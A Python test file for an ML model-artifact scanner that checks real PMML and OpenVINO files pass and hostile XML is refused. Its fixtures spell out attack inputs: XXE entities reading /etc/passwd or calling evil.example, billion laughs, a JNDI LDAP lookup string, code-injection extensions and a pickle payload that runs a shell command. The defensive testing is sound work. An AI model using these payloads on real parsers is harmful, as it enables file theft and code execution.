"""XML: real PMML and OpenVINO models pass; entities, scripts and functions from elsewhere do not."""

from collections.abc import Callable
from pathlib import Path

import pytest

from strongroom.artifact import openvino, xml_reader
from strongroom.artifact.pmml import read_pmml
from strongroom.errors import RejectedError
from strongroom.scan.upload import Verdict
from tests.unit.scan.looking import refused, rules, scan_files

VECTORS = Path(__file__).parent.parent.parent / "vectors" / "xml"
PMML = (VECTORS / "knime-regression.pmml").read_text()
NET = (VECTORS / "lin.xml").read_text()
BIN = (VECTORS / "lin.bin").read_bytes()
MODELS = sorted(VECTORS.glob("*.xml"))


def found(name: str, text: str | bytes) -> set[str]:
    return rules(scan_files({name: text}).matches)


def net(change: Callable[[str], str], weights: bytes = BIN) -> set[str]:
    text = change(NET)
    assert text != NET
    return rules(scan_files({"m/lin.xml": text, "m/lin.bin": weights}).matches)


@pytest.mark.parametrize("path", sorted(VECTORS.glob("*.pmml")), ids=lambda path: path.name)
def test_pmml_of_several_writers_passes(path: Path) -> None:
    report = scan_files({path.name: path.read_bytes()})
    assert report.matches == ()
    assert report.verdict is Verdict.ACCEPTED


@pytest.mark.parametrize("path", MODELS, ids=lambda path: path.name)
def test_openvino_models_pass_with_their_weights(path: Path) -> None:
    files = {path.name: path.read_bytes()}
    weights = path.with_suffix(".bin")
    if weights.exists():
        files[weights.name] = weights.read_bytes()
    assert scan_files(files).matches == ()


def test_pmml_says_what_it_is() -> None:
    data = PMML.encode()
    model = read_pmml(lambda offset, size: data[offset : offset + size], len(data))
    assert (model.version, model.models, model.fields) == ("4.2", ("RegressionModel",), 2)
    assert model.functions == {"/", "scale"}


REACHING = {
    "entity of a file": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "entity of the network": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://evil.example/x">]>',
    "parameter entity": '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>',
    "billion laughs": '<!DOCTYPE PMML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "document type of elsewhere": '<!DOCTYPE PMML SYSTEM "http://evil.example/pmml.dtd">',
    "document type alone": "<!DOCTYPE PMML>",
    "style sheet": '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>',
    "instruction": "<?php system('id'); ?>",
}


@pytest.mark.parametrize("name", REACHING)
@pytest.mark.parametrize("kind", ["pmml", "openvino"])
def test_xml_that_reaches_for_other_files_is_refused(kind: str, name: str) -> None:
    text, path = (PMML, "m.pmml") if kind == "pmml" else (NET, "m.xml")
    head, _, rest = text.partition("?>")
    assert found(path, f"{head}?>\n{REACHING[name]}\n{rest}") & {"xml-declaration"}


def test_inclusions_are_refused() -> None:
    include = (
        '<Extension><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/></Extension>'
    )
    assert found("m.pmml", PMML.replace("</Header>", f"{include}</Header>")) == {"xml-declaration"}


MALFORMED = {
    "another encoding": lambda text: text.replace("UTF-8", "ISO-8859-1").encode("latin-1"),
    "UTF-7": lambda text: text.replace("UTF-8", "UTF-7"),
    "UTF-16": lambda text: text.replace("UTF-8", "UTF-16").encode("utf-16"),
    "XML 1.1": lambda text: text.replace('version="1.0"', 'version="1.1"', 1),
    "cut": lambda text: text[:-20],
    "two roots": lambda text: text + "<PMML/>",
    "unknown entity": lambda text: text.replace("KNIME", "&evil;", 1),
    "unknown version": lambda text: text.replace('version="4.2"', 'version="9.9"'),
    "an attribute twice": lambda text: text.replace('optype="continuous"', 'optype="a" optype="b"', 1),
}


@pytest.mark.parametrize("name", MALFORMED)
def test_malformed_pmml_is_refused(name: str) -> None:
    assert refused(scan_files({"m.pmml": MALFORMED[name](PMML)}).matches)


def test_depth_and_attributes_are_bounded() -> None:
    attributes = " ".join(f"a{number}='1'" for number in range(300))
    for body in ("<Node>" * 2000, f"<Node {attributes}/>"):
        data = PMML.replace("</Header>", f"</Header>{body}").encode()
        with pytest.raises(RejectedError, match=r"deeper|more than"):
            read_pmml(lambda offset, size, data=data: data[offset : offset + size], len(data))


def test_elements_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xml_reader, "MAX_ELEMENTS", 10)
    data = PMML.encode()
    with pytest.raises(RejectedError, match="more than 10"):
        read_pmml(lambda offset, size: data[offset : offset + size], len(data))


UNKNOWN_ELEMENTS = {
    "script": "<script>alert(1)</script>",
    "a table from elsewhere": "<TableLocator><x/></TableLocator>",
    "an object of Java": '<object class="java.lang.ProcessBuilder"/>',
    "another namespace": '<evil:Node xmlns:evil="http://evil.example"/>',
}


@pytest.mark.parametrize("name", UNKNOWN_ELEMENTS)
def test_elements_that_are_not_pmml_are_refused(name: str) -> None:
    text = PMML.replace("</Header>", f"</Header>{UNKNOWN_ELEMENTS[name]}")
    assert "pmml-element-unknown" in found("m.pmml", text)


def test_a_namespace_of_somebody_else_is_refused() -> None:
    assert found("m.pmml", PMML.replace("www.dmg.org/PMML-4_2", "evil.example/pmml")) == {
        "pmml-element-unknown"
    }


@pytest.mark.parametrize(
    "name", ["x-evil", "com.example.Evil", "java.lang.Runtime.exec", "python", "Sum", ""]
)
def test_functions_from_elsewhere_are_refused(name: str) -> None:
    assert "pmml-function-unknown" in found("m.pmml", PMML.replace('function="scale"', f'function="{name}"'))


def test_functions_that_call_themselves_are_refused() -> None:
    assert found("m.pmml", PMML.replace('<Apply function="/">', '<Apply function="scale">')) == {
        "pmml-function-recursion"
    }
    other = '<DefineFunction name="b" optype="continuous"><Apply function="scale"/></DefineFunction>'
    text = PMML.replace("<TransformationDictionary>", f"<TransformationDictionary>{other}")
    assert found("m.pmml", text) == set()
    assert found("m.pmml", text.replace('function="/"', 'function="b"')) == {"pmml-function-recursion"}


def test_a_built_in_function_may_not_be_defined_anew() -> None:
    assert found("m.pmml", PMML.replace('name="scale"', 'name="sum"')) == {"file-malformed"}


def extended(content: str) -> str:
    return PMML.replace("</Header>", f"{content}</Header>")


CODE = (
    "<Extension>subprocess.getoutput('id')</Extension>",
    "<Extension>\n  import subprocess\n</Extension>",
    "<Extension><script>x</script></Extension>",
    "<Extension name='a' value='Runtime.getRuntime().exec(\"id\")'/>",
    "<Extension>${jndi:ldap://evil.example/x}</Extension>",
    "<Extension>exec ('x')</Extension>",
    "<Extension><![CDATA[<script>x</script>]]></Extension>",
    "<Extension value='`id`'/>",
    "<Extension><a><b language='groovy'>1</b></a></Extension>",
)


@pytest.mark.parametrize("content", CODE)
def test_extensions_that_carry_code_are_refused(content: str) -> None:
    assert "pmml-extension-code" in found("m.pmml", extended(content))


NOTES = (
    "<Extension name='timestamp' value='2024-01-30 12:00:00' extender='Rattle'/>",
    "<Extension extender='metrics'>subprocess latency summary</Extension>",
    "<Extension name='a' value='R version 4.0 (2020-04-24)'/>",
    "<Extension extender='spss.com' name='mapMissingTo' value='0.5'/>",
    "<Extension><X-Note>trained on 3 column(s), operating system unknown</X-Note></Extension>",
    "<Extension>see http://example.org/model-card</Extension>",
)


@pytest.mark.parametrize("content", NOTES)
def test_extensions_that_are_notes_pass(content: str) -> None:
    assert found("m.pmml", extended(content)) == set()


def test_secrets_in_pmml_are_found() -> None:
    secret = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    for text in (
        extended(f"<Extension>{secret}</Extension>"),
        PMML.replace('copyright="KNIME"', f'copyright="{secret}"'),
    ):
        assert any(rule.startswith("secret") for rule in found("m.pmml", text))


# OpenVINO ----------------------------------------------------------------------------------------------


def test_openvino_says_what_it_is() -> None:
    data = NET.encode()
    model = openvino.read_openvino(lambda offset, size: data[offset : offset + size], len(data))
    assert (model.version, model.operations["opset1", "MatMul"]) == (11, 1)
    assert sum(each.size_bytes for each in model.constants) == len(BIN)


@pytest.mark.parametrize(
    ("kind", "version"),
    [
        ("Evil", "opset1"),
        ("MatMul", "extension"),
        ("MatMul", "opset99"),
        ("MatMul", "evil_opset"),
        ("Constant", "opset1"),
        ("", ""),
    ],
)
def test_operations_from_elsewhere_are_refused(kind: str, version: str) -> None:
    changed = f'type="{kind}" version="{version}"'
    assert net(lambda text: text.replace('type="MatMul" version="opset1"', changed)) >= {
        "openvino-operation-unknown"
    }


def test_operations_within_bodies_are_judged() -> None:
    text = (VECTORS / "if.xml").read_text().replace('type="Add"', 'type="Evil"')
    assert "openvino-operation-unknown" in found("if.xml", text)


def swap(old: str, new: str) -> Callable[[str], str]:
    return lambda text: text.replace(old, new)


def edge(source: int, target: int) -> Callable[[str], str]:
    one = f'<edge from-layer="{source}" from-port="2" to-layer="{target}" to-port="0"/>'
    return swap("<edges>", f"<edges>{one}")


HUGE = 4611686018427387904
NETS: dict[str, tuple[str, Callable[[str], str]]] = {
    "edges that lead round": ("openvino-graph", edge(4, 2)),
    "an edge to itself": ("openvino-graph", edge(2, 2)),
    "an edge to nowhere": ("openvino-graph", edge(99, 0)),
    "two layers of one id": ("openvino-graph", swap('layer id="1"', 'layer id="0"')),
    "weights beyond the end": ("openvino-weights-beyond-end", swap('offset="0"', 'offset="60"')),
    "negative offset": ("file-malformed", swap('offset="0"', 'offset="-1"')),
    "overflowing shape": ("file-malformed", swap('shape="4, 3"', f'shape="{HUGE}, {HUGE}"')),
    "another size than its shape": ("file-malformed", swap('size="48"', 'size="4"')),
    "unknown type": ("file-malformed", swap('element_type="f32" shape="4', 'element_type="f33" shape="4')),
    "negative dimension": ("file-malformed", swap("<dim>4</dim>", "<dim>-7</dim>")),
    "dimension without end": ("file-malformed", swap("<dim>4</dim>", "<dim>" + "9" * 40 + "</dim>")),
    "unknown version": ("file-malformed", swap('version="11"', 'version="7"')),
    "unknown element": ("file-malformed", swap("<edges>", "<evil/><edges>")),
    "text among layers": ("file-malformed", swap("<edges>", "evil<edges>")),
}


@pytest.mark.parametrize("name", NETS)
def test_openvino_that_no_converter_writes_is_refused(name: str) -> None:
    rule, change = NETS[name]
    assert rule in net(change)


def test_weights_that_are_missing_are_for_a_reviewer() -> None:
    report = scan_files({"lin.xml": NET})
    assert rules(report.matches) == {"openvino-weights-missing"}
    assert report.verdict is Verdict.DOUBTFUL


def test_weights_that_are_another_file_are_refused() -> None:
    pickle = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R." + b"\0" * 0
    assert "openvino-weights-disguised" in rules(scan_files({"lin.xml": NET, "lin.bin": pickle}).matches)


def test_a_file_of_numbers_that_no_model_claims_is_refused() -> None:
    assert "format-unknown" in rules(
        scan_files({"lin.xml": NET, "lin.bin": BIN, "other.bin": bytes(range(256))}).matches
    )


def test_secrets_in_notes_of_a_model_are_found() -> None:
    secret = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    changed = net(lambda text: text.replace("<rt_info>", f'<rt_info><note value="{secret}"/>'))
    assert any(rule.startswith("secret") for rule in changed)


# other XML ---------------------------------------------------------------------------------------------


def test_xml_of_an_unknown_kind_is_refused() -> None:
    for text in (
        '<?xml version="1.0"?><java><object class="java.lang.ProcessBuilder"/></java>',
        '<?xml version="1.0"?><beans xmlns="http://www.springframework.org/schema/beans"/>',
        '<?xml version="1.0"?><project><target><exec executable="sh"/></target></project>',
        '<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    ):
        assert refused(scan_files({"a.xml": text}).matches), text


def test_labels_of_pictures_pass() -> None:
    box = "<bndbox><xmin>1</xmin></bndbox>"
    text = f'<?xml version="1.0"?><annotation><object><name>cat</name>{box}</object></annotation>'
    assert found("a.xml", text) == set()
